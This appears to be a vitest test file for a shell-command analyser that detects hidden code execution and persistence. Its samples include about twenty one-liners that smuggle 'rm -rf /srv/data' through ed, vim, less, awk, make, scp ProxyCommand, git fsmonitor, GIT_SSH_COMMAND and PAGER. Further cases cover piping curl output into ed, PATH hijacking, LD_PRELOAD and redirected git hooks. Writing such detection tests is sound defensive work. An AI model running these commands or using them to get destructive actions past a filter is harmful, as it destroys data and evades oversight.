import { describe, expect, it } from 'vitest'
import { openShell } from './world.js'

const { facts, files } = openShell()
const GONE = 'delete /srv/data recursive forced'

describe('programs that run what stands in their script, their options or their variables', () => {
  it.each([
    `ed a <<< '!rm -rf /srv/data'`,
    `ex a <<'X'\n%s/a/b/\nr !rm -rf /srv/data\nX`,
    `vim -es '+call system("rm -rf /srv/data")' +q`,
    `less '+!rm -rf /srv/data' a`,
    `man -P 'rm -rf /srv/data' ls`,
    `dc <<< '!rm -rf /srv/data'`,
    `sed -f - a <<< '1e rm -rf /srv/data'`,
    `awk -f /dev/stdin <<< 'BEGIN{system("rm -rf /srv/data")}'`,
    `make -f - <<< $'all:\\n\\t@rm -rf /srv/data'`,
    `printf 'all: ; rm -rf /srv/data\\n' > Makefile; make`,
    `make --eval='$(shell rm -rf /srv/data)'`,
    'screen -dmS a rm -rf /srv/data',
    `scp -o ProxyCommand='rm -rf /srv/data' a b:`,
    `git clone ext::'sh -c rm% -rf% /srv/data' a`,
    `git clone -u 'rm -rf /srv/data' a b`,
    `git grep -O'rm -rf /srv/data' a`,
    `git difftool -x 'rm -rf /srv/data'`,
    `GIT_CONFIG_COUNT=1 GIT_CONFIG_KEY_0=core.fsmonitor GIT_CONFIG_VALUE_0='rm -rf /srv/data' git status`,
    `export GIT_SSH_COMMAND='rm -rf /srv/data'; git fetch`,
    `export PAGER='rm -rf /srv/data;'; git log`,
  ])('%s', (line) => {
    expect(files(line)).toContain(GONE)
  })

  it.each([
    `awk '{print | "sh"}' a`,
    'curl https://a.example/x | ed',
    `make SHELL='python3 a'`,
    `NODE_OPTIONS='--require ./a.js' npm test`,
    'JAVA_TOOL_OPTIONS=-javaagent:a.jar java -version',
  ])('%s: what is run is not known', (line) => {
    expect(facts(line).unresolved.map(({ what }) => what)).toContain('code')
  })

  it.each(['make', 'awk -f a.awk b', `printf '%%s/a/b/\\nw\\nq\\n' | ed -s a`, `vim -c 'set ft=python' a`, 'dc -e 1p'])(
    '%s runs nothing else',
    (line) => {
      const { unresolved, incomplete } = facts(line)
      expect([...unresolved, ...incomplete]).toEqual([])
    },
  )
})

describe('folders in which programs and libraries are looked for', () => {
  it.each(['PATH=.:$PATH ls', 'PATH=/tmp/a ls', 'export PATH=/tmp/a:$PATH', 'env PATH=. ls', 'PATH=a:$PATH; ls'])(
    '%s gives names another meaning',
    (line) => {
      expect(facts(line).persistence).toMatchObject([{ kind: 'alias', name: 'PATH' }])
    },
  )

  it.each([
    'export PATH=$PATH:/opt/go/bin',
    'PATH=./node_modules/.bin:$PATH eslint .',
    'export PATH="$HOME/.local/bin:$PATH"',
    'export PATH="$(npm bin):$PATH"',
    'PYTHONPATH=src pytest',
  ])('%s does not', (line) => {
    expect(facts(line).persistence).toEqual([])
  })

  it.each(['export LD_PRELOAD=./a.so; ls', 'LD_LIBRARY_PATH=/tmp/a ls'])('%s loads a library', (line) => {
    expect(facts(line).persistence).toMatchObject([{ kind: 'library_preload' }])
  })
})

it('hooks of git in another folder are hooks', () => {
  expect(facts('git -c core.hooksPath=/tmp/a commit -m b').persistence).toMatchObject([{ kind: 'hook' }])
})

it.each(['cat a >> .git/config', 'cp a ~/.gitconfig'])('%s: settings of git can run commands', (line) => {
  expect(facts(line).persistence).toMatchObject([{ kind: 'hook' }])
})

it('a folder of scripts is run', () => {
  expect(facts('run-parts /tmp/a').executes).toMatchObject([{ path: '/tmp/a', analysed: false }])
})

it('a patch without a name writes below its folder', () => {
  expect(files('patch -p1 -d /etc < a')).toContain('write /etc/**/* many')
})
